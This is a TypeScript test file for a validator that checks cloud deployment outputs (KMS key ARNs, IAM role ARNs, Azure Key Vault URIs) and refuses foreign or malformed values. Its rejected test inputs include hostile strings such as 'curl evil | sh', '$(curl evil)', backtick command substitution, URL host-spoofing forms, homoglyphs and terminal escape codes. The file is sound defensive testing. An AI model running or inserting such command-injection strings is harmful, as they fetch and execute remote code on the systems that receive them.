import { platformOf } from '../../../lib/platforms';
import { checkOutputs, output } from '../../../lib/platforms/outputs';
import type { Deployment } from '../../../lib/fields/deployment';
import { KEY_ID, MULTI_REGION_KEY_ID, outputsOf } from '../../../tools/outputs-of';
import { deployment } from '../../support/deployments';
import { DEPLOYER } from '../../support/azure-deployment';
import { informaticaDeployment } from '../../support/informatica-deployment';
import { stackOf } from '../../support/synthesize';

const aws = (platform: string, more = '', region = 'us-east-1', partition = 'aws') =>
  deployment<Deployment>(`
platform: ${platform}
account: "111122223333"
region: ${region}
administrators: [arn:${partition}:iam::111122223333:role/KeyAdministrator]${more}`);
const ROLE = 'arn:aws:iam::111122223333:role/immuta/Immuta';
const adobe = aws('adobe-experience-platform');
const identityCenter = aws('iam-identity-center', '\nmultiRegion: true');
const immuta = aws('immuta', '\nrunsOn: { type: ec2 }');
const existing = aws('immuta', `\nrunsOn: { type: existing-role, roleArn: "${ROLE}" }`);
const china = aws('immuta', '\nrunsOn: { type: ec2 }', 'cn-north-1', 'aws-cn');
const informatica = informaticaDeployment();

const check = (d: Deployment, values: Readonly<Record<string, string>>) =>
  checkOutputs(platformOf(d).outputs(d), values, 'out.json');
const messages = (d: Deployment, values: Readonly<Record<string, string>>) => check(d, values).refused;

test.each([adobe, identityCenter, immuta, existing, china, informatica])(
  'what a deploy of $platform writes is accepted',
  (d) => {
    expect(messages(d, outputsOf(d))).toEqual([]);
  },
);

test('of the outputs of a stack, only those of the platform are kept', () => {
  const { outputs } = check(adobe, { ...outputsOf(adobe), UpdateInstanceCommand: 'curl evil | sh' });
  expect(Object.keys(outputs.values)).toEqual(['KmsKeyArn', 'KeyId', 'AliasName', 'Region', 'Account']);
  expect(
    Object.keys(check(identityCenter, { UpdateInstanceCommand: 'x', RevertInstanceCommand: 'x' }).outputs.values),
  ).toEqual([]);
});

const arn = (text: string) => `arn:aws:kms:us-east-1:111122223333:${text}`;
const FOREIGN = 'https://evil.vault.azure.net/';
const GROUP =
  '/subscriptions/6082bfda-63d0-46f4-8272-ae9195139feb/resourceGroups/rg-customer-keys/providers/Microsoft.KeyVault/vaults/';

test.each<[d: Deployment, output: string, values: readonly string[]]>([
  [
    adobe,
    'KmsKeyArn',
    [
      `arn:aws:kms:us-east-1:666666666666:key/${KEY_ID}`,
      `arn:aws:kms:eu-west-1:111122223333:key/${KEY_ID}`,
      `arn:aws-cn:kms:us-east-1:111122223333:key/${KEY_ID}`,
      arn('key/*'),
      arn('alias/acme'),
      arn(`key/${KEY_ID};curl evil|sh`),
      arn(`key/${KEY_ID}\n`),
      arn(`key/${MULTI_REGION_KEY_ID.toUpperCase()}`),
      arn(`key/${KEY_ID}\u202e`),
      KEY_ID,
      '',
    ],
  ],
  [adobe, 'KeyId', ['*', `key/${KEY_ID}`, KEY_ID.slice(1), MULTI_REGION_KEY_ID, `${KEY_ID}\r`]],
  [adobe, 'AliasName', ['acme', 'alias/aws/kms', 'alias/$(curl evil)', 'alias/', `alias/${'a'.repeat(251)}`]],
  [adobe, 'Region', ['us-east-2', 'US-EAST-1']],
  [adobe, 'Account', ['666666666666', '111122223333 ']],
  [
    immuta,
    'RoleArn',
    [
      'arn:aws:iam::666666666666:role/Immuta',
      'arn:aws-cn:iam::111122223333:role/Immuta',
      'arn:aws:iam::111122223333:user/Immuta',
      'arn:aws:iam::111122223333:role/',
      'arn:aws:iam::111122223333:role/a//b',
      'arn:aws:iam::111122223333:role/*',
      'arn:aws:iam::111122223333:role/another/Immuta',
      'arn:aws:iam::111122223333:role/a`id`',
    ],
  ],
  [immuta, 'InstanceProfileArn', [ROLE, 'arn:aws:iam::666666666666:instance-profile/Immuta']],
  [existing, 'RoleArn', ['arn:aws:iam::111122223333:role/Immuta']],
  [china, 'KmsKeyArn', [`arn:aws:kms:cn-north-1:111122223333:key/${KEY_ID}`]],
  [informatica, 'TenantId', ['00000000-978b-4d23-ac18-9ef0c127cf87']],
  [
    informatica,
    'KeyVaultUri',
    [
      FOREIGN,
      'http://acme-informatica-cmk.vault.azure.net/',
      'https://acme-informatica-cmk.vault.azure.net',
      'https://acme-informatica-cmk.vault.azure.net/@evil.example/',
      'https://acme-informatica-cmk.vault.azure.net.evil.example/',
      'https://acme-informatica-cm\u212a.vault.azure.net/',
    ],
  ],
  [informatica, 'KeyName', ['another-key', 'informatica-encryption-key/0123']],
  [informatica, 'KeyVersion', ['latest', '0'.repeat(33), '0'.repeat(31), 'g'.repeat(32), '(known after apply)']],
  [informatica, 'KeyVersionlessId', [`${FOREIGN}keys/informatica-encryption-key`]],
  [informatica, 'KeyVaultResourceId', [`${GROUP}evil`, `${GROUP.replace('6082', '0000')}acme-informatica-cmk`]],
  [informatica, 'ServicePrincipalObjectId', ['me@example.com']],
  [informaticaDeployment({ informaticaKmsConnect: { objectId: DEPLOYER } }), 'ServicePrincipalObjectId', [KEY_ID]],
])('$platform: %s is refused where it is not its own', (d, name, values) => {
  const genuine = outputsOf(d);
  const expected = platformOf(d).outputs(d)[name]?.expected;
  for (const value of values) {
    const { refused, outputs } = check(d, { ...genuine, [name]: value });
    expect([value, refused.filter((why) => why.startsWith(`output ${name} is "`))]).toEqual([
      value,
      [expect.stringContaining(` in out.json; it must be ${expected}`)],
    ]);
    expect(outputs.values).not.toHaveProperty(name);
  }
});

test.each([adobe, identityCenter, immuta, existing])(
  'the rules of $platform are for outputs that its stack has',
  async (d) => {
    const { Outputs } = (await stackOf(d)).template;
    expect(Object.keys(Outputs)).toEqual(expect.arrayContaining(Object.keys(platformOf(d).outputs(d))));
  },
);

test('what was given is shown on one line, escaped and shortened', () => {
  expect(messages(adobe, { Account: `1\n\u001b[2J\u202e${'9'.repeat(100_000)}` })).toEqual([
    `output Account is "1\\n\\u001b[2J\\u202e${'9'.repeat(72)}…" in out.json; it must be 111122223333`,
  ]);
});

test('Azure writes names in any case', () => {
  const { KeyVaultUri = '', TenantId = '' } = outputsOf(informatica);
  expect(
    messages(informatica, { KeyVaultUri: KeyVaultUri.replace('acme', 'Acme'), TenantId: TenantId.toUpperCase() }),
  ).toEqual([]);
});

describe('whatever its rule says', () => {
  const anything = { expected: 'anything', accepts: () => true };
  const refused = (value: string) => checkOutputs({ X: anything }, { X: value }, 'out.json').refused.length;

  test('an output is of up to 2048 letters of ASCII that can be seen', () => {
    expect(['', 'x'.repeat(2048), ' ~'].map(refused)).toEqual([0, 0, 0]);
    expect(['x'.repeat(2049), 'x\u007f', '\u001fx', 'é', 'x\n'].map(refused)).toEqual([1, 1, 1, 1, 1]);
  });

  test('what every object has is no output', () => {
    expect(checkOutputs({ toString: anything }, {}, 'out.json')).toEqual({
      outputs: { values: {}, source: 'out.json' },
      refused: [],
    });
  });
});

test('an output that a stack lacks is named, with those that it has', () => {
  const of = (values: Readonly<Record<string, string>>) => () =>
    output('cmk-prod', { values, source: 'out.json' }, 'KeyId', 'cdktf');
  expect(of({ KeyId: 'x' })()).toBe('x');
  expect(of({ A: '1', B: '2' })).toThrow(
    'out.json has no output KeyId for cmk-prod (it has: A, B). Deploy again with this version: npx cdktf deploy cmk-prod',
  );
  expect(of({})).toThrow(
    'out.json has no output KeyId for cmk-prod (it has: none). Deploy again with this version: npx cdktf deploy cmk-prod',
  );
});
